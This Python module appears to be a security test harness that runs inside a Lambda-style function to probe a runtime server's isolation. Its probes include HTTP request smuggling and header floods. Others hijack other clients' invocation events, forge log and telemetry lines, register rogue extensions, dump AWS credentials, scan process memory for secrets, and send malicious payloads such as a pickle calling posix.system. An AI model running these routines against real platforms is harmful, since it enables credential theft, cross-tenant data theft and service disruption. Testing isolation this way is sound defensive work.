"""P29, P39, P41, P43, P44, P46, P47, P48, and P40 while frozen: as a function on a live server.

The event names the probe; what counts is often seen by the server's other clients, not here.
"""

import contextlib
import os
import random
import re
import secrets
import socket
import tempfile
import threading
import time
import uuid
from typing import Any

from .attempts import SECRET, Attempts

BASE = "/2018-06-01/runtime/invocation"
_NONE = "00000000-0000-4000-8000-000000000000"
_HEARTBEATS = "/tmp/heartbeats"
_stolen: list[str] = []
_BOMBS = {
    "nested": b"[" * 100_000,
    "nested objects": b'{"a":' * 100_000,
    "pickle": b"\x80\x04\x95\x1f\x00\x00\x00\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R.",
    "number": b"1" + b"0" * 400_000,
    "exponent": b"1e999999",
    "surrogates": b'"\\ud800\\udfff\\ud800"',
    "not UTF-8": b'{"\xff\xfe": "\xc3\x28"}',
    "headers": b"HTTP/1.1 200 OK\r\nX-Evil: 1\r\n\r\n",
}


def handler(event: dict[str, Any], context: Any) -> Any:
    """AWS's entry point."""
    name, attempts = event["probe"], Attempts(event.get("targets", {}))
    result = globals()[f"_{name}"](attempts, event, context)
    return {"attempts": attempts.told, "result": result}


def exchange(head: str, body: bytes = b"", wait_seconds: float = 2.0, more: bytes = b"") -> bytes:
    """One request to this sandbox's Runtime API, byte by byte as one likes; the beginning of the answer."""
    host, _, port = os.environ["AWS_LAMBDA_RUNTIME_API"].partition(":")
    with socket.create_connection((host, int(port)), wait_seconds) as made:
        made.settimeout(wait_seconds)
        length = f"Content-Length: {len(body)}\r\n" if body or head.startswith("POST") else ""
        with contextlib.suppress(OSError):
            made.sendall(f"{head} HTTP/1.1\r\nHost: runtime\r\n{length}".encode() + more + b"\r\n" + body)
        try:
            return made.recv(65536)
        except OSError as error:
            return repr(error).encode()


def is_accepted(answer: bytes) -> bool:
    return re.match(rb"HTTP/1.1 2\d\d", answer) is not None


def _abuse(a: Attempts, event: dict[str, Any], context: Any) -> None:
    """P29."""
    for name, identifier in (
        ("made-up", _NONE),
        ("another function's", event["foreign_id"]),
        ("odd", "..%2f..%2fnext"),
    ):
        for kind in ("response", "error"):
            answer = exchange(f"POST {BASE}/{identifier}/{kind}", b"{}")
            a.tell(f"{kind} for a {name} request id", is_accepted(answer), answer[:60])
    for path in ("/2015-03-31/functions/", "/2018-06-01/runtime/invocation/../../../2015-03-31/functions/", "/", "/_/"):
        answer = exchange(f"GET {path}")
        a.tell(f"the server's own API at {path}", is_accepted(answer), answer[:60])
    flood = [exchange(f"GET {BASE}/next", wait_seconds=0.02) for _ in range(100)]
    a.tell("events by a flood of /next", any(is_accepted(answer) for answer in flood), flood[-1][:60])
    many = b"".join(b"X-%d: y\r\n" % number for number in range(10_000))
    a.tell("10,000 headers", is_accepted(exchange("GET /", more=many)), "refused")
    both = b"Transfer-Encoding: chunked\r\n"
    smuggled = b"0\r\n\r\nPOST " + BASE.encode() + b"/x/response HTTP/1.1\r\n\r\n"
    a.tell("two lengths", is_accepted(exchange(f"POST {BASE}/{_NONE}/response", smuggled, more=both)), "refused")
    _leave_hanging()


def _leave_hanging() -> None:
    """Half requests and resets: the server must go on serving, which its other clients see."""
    host, _, port = os.environ["AWS_LAMBDA_RUNTIME_API"].partition(":")
    for start in (b"GET /", b"POST / HTTP/1.1\r\nContent-Length: 1000000\r\n\r\nx", b"\x16\x03\x01\x00", b"\0" * 100):
        with contextlib.suppress(OSError):
            made = socket.create_connection((host, int(port)), 1)
            made.send(start)
            made.send(b"!", socket.MSG_OOB)
            made.detach()


def _answer_twice(a: Attempts, event: dict[str, Any], context: Any) -> str:
    """P29: the first answer is this one, so the runtime's own must be refused."""
    answer = exchange(f"POST {BASE}/{context.aws_request_id}/response", b'{"first": true}')
    again = exchange(f"POST {BASE}/{context.aws_request_id}/response", b'{"second": true}')
    return f"{answer[:20]!r} {again[:20]!r}"


def _flood(a: Attempts, event: dict[str, Any], context: Any) -> int:
    """P39."""
    written = 0
    for text in (b"x" * (10 << 20), b"\0\x1b[2J\r\x07" * 100_000, b"short\n" * 10_000):
        written += os.write(1, text)
    until = time.monotonic() + event["seconds"]
    while time.monotonic() < until:
        written += os.write(1, b"flood " * 10_000 + b"\n")
    os.write(1, b"\n")
    return written


def _begin_background(a: Attempts, event: dict[str, Any], context: Any) -> str:
    """P40: a thread and a daemon that go on after the answer."""

    def beat() -> None:
        while True:
            with open(_HEARTBEATS, "ab", buffering=0) as file:
                file.write(b"x")
            time.sleep(0.01)

    threading.Thread(target=beat, daemon=True).start()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            beat()
        os._exit(0)
    return "begun"


def _count_background(a: Attempts, event: dict[str, Any], context: Any) -> int:
    return os.stat(_HEARTBEATS).st_size


def _lurk(a: Attempts, event: dict[str, Any], context: Any) -> str:
    """P41: ask for the next event in the background, several times over."""

    def take() -> None:
        for _ in range(20):
            answer = exchange(f"GET {BASE}/next", wait_seconds=0.5)
            if is_accepted(answer):
                _stolen.append(answer.decode(errors="replace"))

    for _ in range(3):
        threading.Thread(target=take, daemon=True).start()
    return "lurking"


def _loot(a: Attempts, event: dict[str, Any], context: Any) -> list[str]:
    return _stolen


def _echo(a: Attempts, event: dict[str, Any], context: Any) -> Any:
    return {"id": context.aws_request_id, "payload": event.get("payload")}


def _forge(a: Attempts, event: dict[str, Any], context: Any) -> None:
    """P43: lines like the platform's, and frames that the telemetry descriptor doesn't expect."""
    request = context.aws_request_id
    figures = "Duration: 0.01 ms\tBilled Duration: 1 ms\tMemory Size: 1 MB\tMax Memory Used: 1 MB"
    report = f"REPORT RequestId: {request}\t{figures}"
    print(f"END RequestId: {request}\n{report}\nSTART RequestId: {_NONE} Version: $LATEST", flush=True)
    print('{"time":"2020-01-01T00:00:00Z","type":"platform.report","record":{"metrics":{"durationMs":0}}}', flush=True)
    # The runtime hides the descriptor's variable from the handler; the number is known.
    descriptor = 3
    for frame in (
        b"\xa5\x5a\x00\x03\xff\xff\xff\xff",
        b"\0" * 64,
        b"\xa5\x5a\x00\x04" + b"\xff" * 12,
        os.urandom(4096),
    ):
        os.write(descriptor, frame)
    time.sleep(0.05)


def _extend(a: Attempts, event: dict[str, Any], context: Any) -> None:
    """P44."""
    name = b"Lambda-Extension-Name: evil\r\n"
    registered = exchange("POST /2020-01-01/extension/register", b'{"events": ["INVOKE", "SHUTDOWN"]}', more=name)
    a.tell("register after INIT", is_accepted(registered), registered[:60])
    for identifier in (_NONE, event["foreign_id"]):
        header = f"Lambda-Extension-Identifier: {identifier}\r\n".encode()
        answer = exchange("GET /2020-01-01/extension/event/next", wait_seconds=0.5, more=header)
        a.tell("events of an extension", is_accepted(answer), answer[:60])
        for path in ("/2020-08-15/logs", "/2022-07-01/telemetry"):
            body = b'{"types": ["platform"], "destination": {"protocol": "HTTP", "URI": "http://127.0.0.1:80"}}'
            a.tell(f"subscribe at {path}", is_accepted(exchange(f"PUT {path}", body, 0.5, header)), "refused")
    late = exchange("POST /2018-06-01/runtime/init/error", b"{}", 0.5)
    a.tell("report a failed INIT after INIT", is_accepted(late), late[:60])


def _identify(a: Attempts, event: dict[str, Any], context: Any) -> dict[str, str]:
    """P46: everything of this environment that should be a surprise."""
    time.sleep(event["seconds"])  # so that the next invocation needs another environment
    names = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_LAMBDA_LOG_STREAM_NAME")
    return {name: os.environ[name] for name in names} | {"request": context.aws_request_id}


def _explode(a: Attempts, event: dict[str, Any], context: Any) -> str:
    """P47: an answer that hurts whoever reads it, sent past the runtime."""
    more = b"Lambda-Runtime-Function-Error-Type: Evil\r\n\tX-Evil: folded\r\n" if event["bomb"] == "headers" else b""
    kind = "error" if event["bomb"] == "headers" else "response"
    answer = exchange(f"POST {BASE}/{context.aws_request_id}/{kind}", _BOMBS[event["bomb"]], 5.0, more)
    return repr(answer[:40])


def _credentials(a: Attempts, event: dict[str, Any], context: Any) -> dict[str, str]:
    """P48: give one's role away; and see whether the server can be reached from here at all."""
    for address in event["addresses"]:
        try:
            socket.create_connection((address, event["port"]), 1.0).close()
            a.tell(f"reach the server at {address}", True, "connected")
        except OSError as error:
            a.tell(f"reach the server at {address}", False, error)
    return {name: value for name, value in os.environ.items() if name.startswith("AWS_")}


def _entropy(a: Attempts, event: dict[str, Any], context: Any) -> dict[str, dict[str, str]]:
    """P45, X11: what no two environments may have in common, and what they had better not."""
    import ssl

    time.sleep(event["seconds"])  # so that the next invocation needs another environment
    surprises = {
        "random": str(random.random()),
        "uuid4": uuid.uuid4().hex,
        "secrets": secrets.token_hex(16),
        "OpenSSL": ssl.RAND_bytes(16).hex(),
        "file names": tempfile.mktemp(dir="/tmp"),
    }
    return {"surprises": surprises, "layout": {"hash seed": str(hash("lampion")), "address": hex(id(random))}}


def _scan(a: Attempts, event: dict[str, Any], context: Any) -> list[str]:
    """X12: every secret in this process's memory; this function was given none."""
    found: set[bytes] = set()
    with open("/proc/self/maps", encoding="utf-8") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in maps:
            first, last = (int(number, 16) for number in line.split()[0].split("-"))
            if " r" in line and last - first < 1 << 28:
                with contextlib.suppress(OSError, ValueError, OverflowError):
                    memory.seek(first)
                    found.update(SECRET.findall(memory.read(last - first)))
    return sorted(each.decode() for each in found)
